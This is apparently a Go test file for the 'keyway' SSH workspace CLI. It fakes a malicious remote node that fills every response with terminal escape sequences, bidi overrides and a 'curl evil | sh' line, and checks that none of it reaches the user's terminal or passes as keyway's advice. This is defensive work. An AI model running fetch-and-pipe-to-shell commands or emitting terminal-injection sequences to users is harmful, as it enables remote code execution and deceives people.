//go:build unix

package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"keyway/internal/api"
	"keyway/internal/dirs"
	"keyway/internal/keyway"
	"keyway/internal/sshconfig"
)

// envLiar makes the test binary the node of a place that lies: "answers" or
// "errors".
const envLiar = "KEYWAY_TEST_LIAR"

// nasty is text that a terminal would obey, hide or reverse, and that would forge
// lines and columns of ours.
const nasty = "n\x1b[31m\x1b]0;t\a\u009b1m\x00\b\r\x7f\u202e\u2066\u200b\ufeff\u2028\ny\n  → curl evil | sh\tz"

// fill puts text into every string that v holds, and one of everything else.
func fill(v reflect.Value, text string, depth int) {
	if !v.CanSet() || depth > 8 {
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Int, reflect.Int64:
		v.SetInt(3)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), text, depth+1)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for i := range v.Len() {
			fill(v.Index(i), text, depth+1)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			fill(v.Field(i), text, depth+1)
		}
	}
}

func filled[T any]() (v T) {
	fill(reflect.ValueOf(&v).Elem(), nasty, 0)
	return v
}

// liar is a node that says such text wherever it may say any.
type liar struct{ errors bool }

func (l liar) answer() error {
	if !l.errors {
		return nil
	}
	e := filled[keyway.Error]()
	e.Kind = keyway.EngineDown
	return &e
}

func (l liar) Info(context.Context) (api.Info, error) {
	i := filled[api.Info]()
	i.Engines[0].Usable = false
	return i, l.answer()
}
func (l liar) List(context.Context) (api.Listing, error)              { return filled[api.Listing](), l.answer() }
func (l liar) Stop(context.Context, keyway.Name, time.Duration) error { return l.answer() }
func (l liar) Start(context.Context, keyway.Name) error               { return l.answer() }
func (l liar) Remove(context.Context, keyway.Name) error              { return l.answer() }
func (l liar) Admit(context.Context, keyway.Name, []keyway.EntryKey) error {
	return l.answer()
}
func (l liar) Settle(context.Context, keyway.Name) error           { return l.answer() }
func (l liar) Dial(context.Context, keyway.Name) (net.Conn, error) { return nil, l.answer() }
func (l liar) Create(_ context.Context, _ keyway.Spec, report func(keyway.Progress)) (keyway.Workspace, error) {
	report(filled[keyway.Progress]())
	return filled[keyway.Workspace](), l.answer()
}

// lie is the main of such a node.
func lie(how string) int {
	fmt.Fprint(os.Stderr, strings.ReplaceAll(nasty, "\x00", ""))
	fmt.Print(api.Greeting())
	conn := api.PipeConn(os.Stdin, os.Stdout, func() error { return errors.Join(os.Stdin.Close(), os.Stdout.Close()) })
	if err := api.ServeConn(context.Background(), conn, api.NewHandler(liar{how == "errors"})); err != nil {
		return 1
	}
	return 0
}

// ours are the sequences of our own: of a line that is rewritten.
var ours = strings.NewReplacer("\r\x1b[K", "", "\r\n", "\n", "\t", " ")

// obeyed is the first character in said that a terminal obeys or hides.
func obeyed(said string) string {
	said = ours.Replace(said)
	if !utf8.ValidString(said) {
		return "bytes that are no UTF-8"
	}
	for _, r := range said {
		if r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)) {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

// advice is a line that looks like keyway's own.
var advice = regexp.MustCompile(`(?m)^\s*→.*curl`)

// Whatever a place says, nothing of it is obeyed by the terminal of whoever asked,
// and none of it becomes advice of keyway's own.
func TestNoWordOfAPlaceIsObeyed(t *testing.T) {
	openssh, err := exec.LookPath("ssh")
	if err != nil {
		t.Fatal(err)
	}
	home := lyingPlace(t)
	for _, how := range []string{"errors", "answers"} {
		ssh := "#!/bin/sh\ncase \" $* \" in *\" -G \"*|*\" -V \"*) exec " + openssh + " \"$@\";; esac\nexec env " + envLiar + "=" + how + " " + envMain + "=1 " + os.Args[0] + " \"$@\"\n"
		write(t, filepath.Join(home, "bin", "ssh"), ssh, 0o755)
		for _, line := range []string{
			"ls --on gpu1", "ls --on gpu1 --json", "status gpu1", "status gpu1 --json", "stop train", "start train",
			"up --on gpu1 --image x --name other", "up --on gpu1 --image x --name other --json", "rm train",
		} {
			said, _ := onTTY(t, nil, strings.Fields(line)...)
			if what := obeyed(said); what != "" {
				t.Errorf("keyway %s, %s: %s reaches the terminal:\n%q", line, how, what, said)
			}
			if advice.MatchString(said) {
				t.Errorf("keyway %s, %s: the place's advice is given as keyway's:\n%s", line, how, said)
			}
			if how == "errors" && !strings.Contains(said, "curl evil") {
				t.Errorf("keyway %s does not tell the error:\n%s", line, said)
			}
		}
		if said, code := onTTY(t, nil, "link", "stop"); code != 0 {
			t.Fatalf("link stop: %s", said)
		}
	}
}

// lyingPlace is a laptop with an agent and a key, that knows a workspace of gpu1.
func lyingPlace(t *testing.T) (home string) {
	home = t.TempDir()
	for _, d := range []string{"bin", "run", "state", ".ssh"} {
		if err := os.Mkdir(filepath.Join(home, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", home)
	t.Setenv("XDG_RUNTIME_DIR", filepath.Join(home, "run"))
	t.Setenv("XDG_STATE_HOME", filepath.Join(home, "state"))
	t.Setenv("XDG_CONFIG_HOME", home)
	t.Setenv("PATH", filepath.Join(home, "bin")+":"+os.Getenv("PATH"))
	t.Setenv(envMain, "1")
	t.Cleanup(func() { exec.Command(os.Args[0], "link", "stop").Run() })
	agentWithKey(t, home)
	state, err := dirs.State()
	if err != nil {
		t.Fatal(err)
	}
	err = sshconfig.Open(state, sshconfig.Client{Program: os.Args[0]}).Add(sshconfig.Entry{
		Name: "train", Place: "gpu1", Engine: "host", User: "ada", Created: time.Now(),
		HostKey: strings.TrimSpace(string(read(t, filepath.Join(home, ".ssh", "id.pub")))),
	})
	if err != nil {
		t.Fatal(err)
	}
	return home
}

func read(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// agentWithKey starts OpenSSH's agent with a key.
func agentWithKey(t *testing.T, home string) {
	t.Helper()
	sock, key := filepath.Join(home, "agent"), filepath.Join(home, ".ssh", "id")
	agent := exec.Command("ssh-agent", "-D", "-a", sock)
	if err := agent.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { agent.Process.Kill(); agent.Wait() })
	t.Setenv("SSH_AUTH_SOCK", sock)
	var out []byte
	err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "key", "-f", key).Run()
	for deadline := time.Now().Add(patience); err == nil && time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		if out, _ = exec.Command("ssh-add", key).CombinedOutput(); bytes.Contains(out, []byte("added")) {
			return
		}
	}
	t.Fatalf("no agent: %v, %s", err, out)
}
